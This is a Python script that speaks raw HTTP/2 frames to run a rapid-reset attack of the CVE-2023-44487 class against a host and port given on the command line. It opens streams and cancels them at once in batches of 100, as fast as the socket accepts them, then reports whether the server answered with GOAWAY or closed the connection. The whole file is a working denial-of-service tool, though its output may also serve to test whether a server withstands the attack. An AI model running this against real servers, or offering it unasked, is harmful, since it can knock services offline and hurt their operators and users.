#!/usr/bin/env python3
"""An HTTP/2 rapid-reset client (CVE-2023-44487 class), written from raw frames so that it needs no
h2 library: on one h2c connection, N streams each opened with HEADERS (END_STREAM) and cancelled at
once with RST_STREAM, in batches, each for a new URL (/PREFIX/<i>), as fast as the socket takes
them. Stops at N pairs, at a GOAWAY or a closed connection, or after the time limit.

  h2_rapid_reset.py HOST PORT AUTHORITY PREFIX N [SECONDS]

Prints one line: "sent=<pairs> goaway=<error code or -> closed=<0|1> seconds=<elapsed>"."""
import socket
import struct
import sys
import time

host, port, authority, prefix, n = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], int(sys.argv[5])
limit = float(sys.argv[6]) if len(sys.argv) > 6 else 10.0


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def lit(index, value):  # literal header field without indexing, indexed name (RFC 7541 6.2.2)
    v = value.encode()
    assert index < 15 and len(v) < 127
    return bytes([index, len(v)]) + v


def headers_block(path):
    # :method GET (2), :scheme http (6), :path (4), :authority (1), all from the static table
    return b"\x82\x86" + lit(4, path) + lit(1, authority)


s = socket.create_connection((host, port))
s.setblocking(False)
out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
inbuf = b""
goaway = "-"
closed = 0
sent = 0
sid = 1
t0 = time.time()


def pump_in():
    """Reads what the server sent; returns False once the connection is gone or said GOAWAY."""
    global inbuf, goaway, closed
    while True:
        try:
            d = s.recv(65536)
        except BlockingIOError:
            break
        except (ConnectionResetError, BrokenPipeError):
            closed = 1
            return False
        if not d:
            closed = 1
            return False
        inbuf += d
    while len(inbuf) >= 9:
        ln = int.from_bytes(inbuf[:3], "big")
        if len(inbuf) < 9 + ln:
            break
        ftype, payload = inbuf[3], inbuf[9:9 + ln]
        inbuf = inbuf[9 + ln:]
        if ftype == 7 and len(payload) >= 8:  # GOAWAY
            goaway = str(struct.unpack(">I", payload[4:8])[0])
        if ftype == 4 and inbuf is not None and (payload or True):
            pass
    return goaway == "-"


while sent < n and time.time() - t0 < limit:
    batch = out
    out = b""
    for _ in range(min(100, n - sent)):
        batch += frame(1, 0x5, sid, headers_block("/%s/%d" % (prefix, sid)))
        batch += frame(3, 0, sid, struct.pack(">I", 8))  # RST_STREAM CANCEL
        sid += 2
        sent += 1
    view = memoryview(batch)
    while view and time.time() - t0 < limit:
        try:
            k = s.send(view)
            view = view[k:]
        except BlockingIOError:
            if not pump_in():
                break
            time.sleep(0.001)
        except (ConnectionResetError, BrokenPipeError):
            closed = 1
            break
    if closed or not pump_in():
        break

# wait a little for a GOAWAY or the close
end = time.time() + 5.0
while time.time() < end and goaway == "-" and not closed:
    if not pump_in():
        break
    time.sleep(0.01)
print("sent=%d goaway=%s closed=%d seconds=%.2f" % (sent, goaway, closed, time.time() - t0))
